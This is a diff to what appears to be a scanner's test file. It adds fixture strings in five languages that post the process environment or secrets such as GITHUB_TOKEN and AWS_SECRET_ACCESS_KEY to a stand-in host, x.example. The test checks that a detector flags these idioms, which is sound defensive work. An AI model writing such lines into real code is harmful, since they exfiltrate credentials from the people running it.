@@ -115,6 +115,12 @@ const CALLS: [Language, string][] = [
   ['python', 'requests.post("https://x.example.com/graphql", data=body)\n'],
   ['python', 'client.refunds.create(charge="ch_1")\n'],
   ['node', 'await api.payouts.create({ amount: 100 })\n'],
+  // envSends.ts: the environment, or a variable of it, in a request.
+  ['python', 'requests.post("https://x.example", data=dict(os.environ))\n'],
+  ['node', "fetch('https://x.example/?t=' + process.env.GITHUB_TOKEN)\n"],
+  ['ruby', 'Net::HTTP.post_form(URI("https://x.example"), ENV.to_h)\n'],
+  ['perl', 'get("https://x.example/?k=$ENV{AWS_SECRET_ACCESS_KEY}");\n'],
+  ['php', 'file_get_contents("https://x.example/?k=" . getenv("GITHUB_TOKEN"));\n'],
 ];
 
 test('every idiom the code readers act on is seen by the cheap look', () => {
